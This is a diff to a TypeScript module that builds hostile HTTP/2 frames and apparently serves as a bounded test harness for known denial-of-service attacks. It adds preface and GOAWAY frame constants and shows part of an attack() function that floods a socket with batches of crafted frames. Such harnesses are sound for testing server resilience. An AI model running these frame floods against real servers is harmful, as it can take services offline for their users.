@@ -3,10 +3,9 @@ import type { Socket } from "node:net";
 
 // What a hostile client of HTTP/2 can send, as bytes; each is bounded. The names are those under which they became known.
 
-const FRAMES = { data: 0, headers: 1, reset: 3, settings: 4, ping: 6, continuation: 9 } as const;
+const FRAMES = { data: 0, headers: 1, reset: 3, settings: 4, ping: 6, goaway: 7, continuation: 9 } as const;
 const END_STREAM = 1;
 const END_HEADERS = 4;
-const PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
 
 /** An HTTP/2 frame (RFC 9113, section 4.1). */
 function frame(
@@ -22,6 +21,15 @@ function frame(
   head.writeUInt32BE(stream, 5);
   return Buffer.concat([head, payload]);
 }
+
+/** What every connection begins with (RFC 9113, section 3.4), with empty settings. */
+export const PREFACE = Buffer.concat([
+  Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
+  frame("settings", 0, 0),
+]);
+
+/** An orderly end: no stream was opened by the peer, and no error happened. */
+export const GOAWAY = frame("goaway", 0, 0, Buffer.alloc(8));
 
 /** A header field that enters the dynamic table (RFC 7541, section 6.2.1); texts under 127 bytes. */
 function field(name: string, value: string): Buffer {
@@ -115,7 +123,7 @@ export async function attack(socket: Socket, { step, steps, reads }: Attack, tar
   socket.on("error", () => {});
   socket.once("close", () => over.abort());
   if (reads) socket.resume();
-  socket.write(Buffer.concat([Buffer.from(PREFACE), frame("settings", 0, 0)]));
+  socket.write(PREFACE);
   for (let sent = 0; sent < steps && !over.signal.aborted; sent += BATCH) {
     const batch = Array.from({ length: BATCH }, (_, n) => step(target, sent + n));
     if (!socket.write(Buffer.concat(batch)))
